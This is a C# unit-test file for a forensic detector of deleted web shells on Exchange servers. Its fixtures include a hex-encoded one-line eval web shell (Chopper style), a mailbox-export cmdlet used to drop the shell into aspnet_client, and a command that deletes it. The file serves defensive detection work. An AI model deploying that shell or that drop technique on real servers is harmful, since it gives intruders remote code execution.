using Afterpatch.Analysis.Detectors.Deleted;
using Afterpatch.Core;
using Xunit;
using Record = Afterpatch.Core.Record;

namespace Afterpatch.Analysis.Tests.Deleted;

public class DeletedPageTests
{
    private const string Page = @"C:\inetpub\wwwroot\aspnet_client\shell.aspx";
    private const string Url = "/aspnet_client/shell.aspx";

    /// <summary>A one-line eval page, as hexadecimal so that no product takes the test for the real thing.</summary>
    private static readonly byte[] Shell = Convert.FromHexString("3c25402050616765204c616e67756167653d224a73637269707422253e3c256576616c28526571756573742e4974656d5b2278225d2c22756e7361666522293b253e");

    private static readonly DateTime Born = new(2021, 3, 3, 10, 0, 0, DateTimeKind.Utc);
    private static readonly DateTime Used = Born.AddHours(5);
    private static readonly DateTime Gone = Born.AddDays(2);

    private static readonly Dictionary<string, Record[]> Traces = new()
    {
        ["$MFT"] = [Mft(Page)],
        ["content"] = [new RecoveredFile { At = new(Page), Path = Page, SizeBytes = Shell.Length, From = "free clusters", Sha256 = "", Content = Shell, CreatedUtc = Born }],
        ["shadow copy"] = [Copied(Page, Shell)],
        ["$UsnJrnl"] = [Usn(Page, "FILE_CREATE|CLOSE", Born), Usn(Page, "FILE_DELETE|CLOSE", Gone)],
        ["$I30"] = [new NameTrace { At = new(@"C:\inetpub\wwwroot\aspnet_client\$I30", 600), Family = "i30-slack", Name = "shell.aspx", Folder = @"C:\inetpub\wwwroot\aspnet_client", Times = new(Born, Born, Born, Born) }],
        [".compiled"] = [new CompiledPage { At = new(@"C:\T\shell.aspx.1.compiled"), VirtualPath = Url, Assembly = "App_Web_1", CompiledUtc = Born.AddMinutes(1) }],
        ["web log"] = [Use(Url)],
        ["security product"] = [new ThreatDetection { At = new(@"C:\Windows\debug\msert.log"), TimeUtc = Gone, Product = "msert", Threat = "Backdoor:ASP/Chopper", Resource = "file:" + Page, Action = "Remove" }],
        ["cmdlet"] = [Cmdlet(@"-Mailbox 'a' -FilePath '\\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\shell.aspx'")],
        ["process"] = [Process(@"cmd.exe /c cd /d C:\inetpub\wwwroot\aspnet_client&del shell.aspx")],
    };

    public static TheoryData<string> Kinds => [.. Traces.Keys];

    [Theory]
    [MemberData(nameof(Kinds))]
    public void Each_trace_alone_tells_of_the_page(string kind)
    {
        var finding = Assert.Single(Find([.. Traces[kind], OtherPage()]));
        Assert.Equal("webshell.deleted", finding.Detector);
        Assert.StartsWith($"1/11: {kind}", Detail(finding, "traces"), StringComparison.Ordinal);
    }

    [Fact]
    public void A_page_in_the_quarantine_is_judged_by_what_it_held()
    {
        var finding = Assert.Single(Find([
            new QuarantinedFile { At = new("entry"), Path = Page, Threat = "Backdoor:ASP/Chopper", QuarantinedUtc = Gone, ContentId = "AB" }, new QuarantinedFile { At = new("data"), ContentId = "AB", Content = Shell },
            new QuarantinedFile { At = new("data"), ContentId = "CD", Content = Shell }, OtherPage()]));
        Assert.Equal(("webshell.deleted", Severity.Critical, (DateTime?)Gone), (finding.Detector, finding.Severity, finding.LastUtc));
        Assert.Empty(Find([new QuarantinedFile { At = new("data"), ContentId = "CD", Content = Shell }, OtherPage()]));
    }

    [Fact]
    public void A_page_whose_folder_is_lost_is_told_by_what_it_held()
    {
        const string lost = @"C:\$OrphanFiles\shell.aspx";
        static RecoveredFile Recovered(byte[] content) =>
            new() { At = new(lost), Path = lost, SizeBytes = content.Length, From = "free clusters", Sha256 = "", Content = content, CreatedUtc = Born };
        var finding = Assert.Single(Find([Recovered(Shell), OtherPage()]));
        Assert.Equal(("webshell.deleted", Severity.Critical, lost), (finding.Detector, finding.Severity, finding.Subject.Value));
        Assert.Empty(Find([Recovered("<html><body>error</body></html>"u8.ToArray()), OtherPage()]));
    }

    [Fact]
    public void A_page_whose_folder_was_renamed_is_one_page_and_one_that_was_moved_is_two_places()
    {
        const string before = @"C:\inetpub\wwwroot\aspnet_client\sub1\inner.aspx", after = @"C:\inetpub\wwwroot\aspnet_client\sub2\inner.aspx";
        var finding = Assert.Single(Find([Usn(before, "FILE_CREATE|CLOSE", Born), Usn(after, "FILE_DELETE|CLOSE", Gone), OtherPage()]));
        Assert.Equal((before, Born, Gone), (finding.Subject.Value, finding.FirstUtc, finding.LastUtc));
        Assert.Equal(2, Find([
            Usn(before, "FILE_CREATE|CLOSE", Born), Usn(before, "RENAME_OLD_NAME", Used), Usn(after, "RENAME_NEW_NAME|CLOSE", Used), Usn(after, "FILE_DELETE|CLOSE", Gone), OtherPage()]).Count);
    }

    [Fact]
    public void Every_pair_of_traces_is_one_finding()
    {
        foreach (var first in Traces.Keys)
            foreach (var second in Traces.Keys.Where(kind => string.CompareOrdinal(first, kind) < 0))
            {
                var finding = Assert.Single(Find([.. Traces[first], .. Traces[second]]));
                Assert.StartsWith("2/11", Detail(finding, "traces"), StringComparison.Ordinal);
                Assert.True(finding.Severity >= Severity.High, $"{first} and {second}");
            }
    }

    [Fact]
    public void All_traces_together_tell_its_life()
    {
        var finding = Assert.Single(Find([.. Traces.Values.SelectMany(records => records), OtherPage()]));
        Assert.Equal((Severity.Critical, Confidence.High, FindingState.Removed), (finding.Severity, finding.Confidence, finding.State));
        Assert.Equal((Born, Gone), (finding.FirstUtc, finding.LastUtc));
        Assert.Equal("msert", Detail(finding, "deletedBy"));
        Assert.Equal("webshell", Detail(finding, "verdict"));
        Assert.Equal("x", Detail(finding, "parameters"));
        Assert.Contains(new Subject("address", "203.0.113.9"), finding.Entities);
        Assert.Equal("$LogFile", Detail(finding, "notCollected"));
    }

    [Fact]
    public void A_page_that_is_still_there_is_not_deleted() =>
        Assert.Empty(Find([.. Traces.Values.SelectMany(records => records), new WebFile { At = new(Page), Path = Page, SizeBytes = 1, Sha256 = "", Content = Shell }]));

    [Fact]
    public void Ordinary_churn_is_quiet()
    {
        const string exchange = @"C:\Program Files\Microsoft\Exchange Server\V15\";
        var churn = new List<Record> { OtherPage() };
        for (var i = 0; i < 200; i++)
        {
            churn.Add(Usn($@"{exchange}ClientAccess\ecp\Reporting\Page{i}.aspx", "FILE_DELETE|CLOSE", Born));
            churn.Add(Usn($@"{exchange}ClientAccess\ecp\Reporting\Page{i}.aspx", "FILE_CREATE|CLOSE", Born.AddMinutes(3)));
            churn.Add(Mft($@"C:\Windows\Temp\ExchangeSetup\ClientAccess\owa\p{i}.aspx"));
        }
        churn.Add(Mft(exchange + @"FrontEnd\HttpProxy\owa\auth\logon.aspx"));
        churn.Add(new CompiledPage { At = new(@"C:\T\logon.aspx.1.compiled"), VirtualPath = "/owa/auth/logon.aspx", Assembly = "App_Web_2", CompiledUtc = Born });
        churn.Add(new CompiledPage { At = new(@"C:\T\default.aspx.1.compiled"), VirtualPath = "/ecp/default.aspx", Assembly = "App_Web_3", CompiledUtc = Born });
        churn.Add(Use("/aspnet_client/never.aspx") with { SuccessfulPosts = 0, SuccessfulGets = 0, FirstSuccessUtc = null, LastSuccessUtc = null });
        churn.Add(Cmdlet("-Identity 'OAB (Default Web Site)' -ExternalUrl 'https://mail.example/OAB'"));
        Assert.Empty(Find(churn));
    }

    [Fact]
    public void Folders_known_by_number_only_are_found_through_the_mft()
    {
        var folder = new MftEntry { At = new(@"C:\$MFT"), Path = @"C:\inetpub\wwwroot\aspnet_client", Entry = 70, Sequence = 2, IsDirectory = true };
        var change = Usn("shell.aspx", "FILE_DELETE|CLOSE", Gone) with { AnchorEntry = 70, AnchorSequence = 2 };
        Assert.Equal(Page, Assert.Single(Find([change, folder])).Subject.Value);
    }

    [Fact]
    public void Several_shells_removed_at_once_hint_at_a_rival()
    {
        var records = Enumerable.Range(0, 4).SelectMany(i => new Record[]
        {
            Usn(Page.Replace("shell", $"s{i}"), "FILE_CREATE|CLOSE", Born), Usn(Page.Replace("shell", $"s{i}"), "FILE_DELETE|CLOSE", Gone.AddSeconds(i)), Mft(Page.Replace("shell", $"s{i}")),
        });
        Assert.Contains(Find([.. records]), finding => finding.Detector == "tampering.rival-cleanup");
    }

    [Fact]
    public void A_page_whose_earlier_state_was_a_shell_is_told_though_it_is_there()
    {
        var now = new WebFile { At = new(Page), Path = Page, SizeBytes = 4, Sha256 = "", Content = "<p/>"u8.ToArray() };
        var finding = Assert.Single(Find([now, Copied(Page, Shell)]));
        Assert.Equal("finding.webshell.deleted.replaced.title", finding.TitleKey);
        Assert.Empty(Find([now, Copied(Page, "<p>old</p>"u8.ToArray())]));
    }

    [Fact]
    public void A_page_that_only_a_collected_shadow_copy_has_is_gone()
    {
        const string copy = @"\\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\inetpub\wwwroot\aspnet_client\shell.aspx";
        var copied = new WebFile { At = new(copy), Path = copy, SizeBytes = Shell.Length, Sha256 = "", Content = Shell, CreatedUtc = Born };
        var finding = Assert.Single(Find([copied, OtherPage()]));
        Assert.Equal((Page, Severity.Critical, FindingState.Removed), (finding.Subject.Value, finding.Severity, finding.State));
        Assert.Empty(Find([copied, new WebFile { At = new(Page), Path = Page, SizeBytes = Shell.Length, Sha256 = "", Content = Shell }]));
    }

    private static List<Finding> Find(IReadOnlyList<Record> records)
    {
        var detector = new DeletedPageDetector(KnowledgeBase.Embedded);
        var findings = new List<Finding>();
        foreach (var record in records)
            detector.Observe(record, findings);
        detector.Complete(findings);
        return findings;
    }

    private static string Detail(Finding finding, string name) => finding.Details.First(detail => detail.Key == name).Value;

    private static WebFile OtherPage()
    {
        const string stock = @"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\errorFE.aspx";
        return new() { At = new(stock), Path = stock, SizeBytes = 1, Sha256 = "", Content = default };
    }

    private static MftEntry Mft(string path) => new()
    {
        At = new(@"C:\$MFT", 4096),
        Path = path,
        Entry = 4,
        Sequence = 2,
        IsDeleted = true,
        SizeBytes = 66,
        Named = new(Born, Born, Born, Born),
        Standard = new(Born, Born, Gone, Born),
    };

    private static RecoveredFile Copied(string path, byte[] content) => new()
    {
        At = new(path),
        Path = path,
        SizeBytes = content.Length,
        From = "shadow copy of 2021-03-04T00:00:00Z",
        Sha256 = "",
        Content = content,
        CreatedUtc = Born,
        SeenUtc = Used,
    };

    private static UsnChange Usn(string path, string reasons, DateTime utc) => new()
    {
        At = new(@"C:\$Extend\$J", 64),
        TimeUtc = utc,
        Usn = 64,
        Path = path,
        Name = path[(path.LastIndexOf('\\') + 1)..],
        Entry = 9,
        Sequence = 1,
        AnchorEntry = 5,
        AnchorSequence = 5,
        Reasons = reasons,
    };

    private static PageUse Use(string url) => new()
    {
        At = new(@"C:\inetpub\logs\u_ex210303.log", 10),
        Path = url,
        SuccessfulPosts = 7,
        SuccessfulGets = 1,
        FirstSuccessUtc = Used,
        LastSuccessUtc = Used.AddHours(1),
        FirstMissingUtc = Gone.AddHours(1),
        NotFound = 1,
        Clients = ["203.0.113.9"],
        Samples = [],
    };

    private static CmdletInvocation Cmdlet(string parameters) => new()
    {
        At = new("C:\\m.evtx"),
        TimeUtc = Born,
        Family = "msexchange-management",
        Cmdlet = "New-MailboxExportRequest",
        Parameters = parameters,
    };

    private static LoggedEvent Process(string command) => new()
    {
        At = new("C:\\Security.evtx"),
        TimeUtc = Gone,
        Channel = "Security",
        Provider = "Microsoft-Windows-Security-Auditing",
        EventId = 4688,
        Computer = "EX1",
        Data = [new("CommandLine", command)],
    };
}
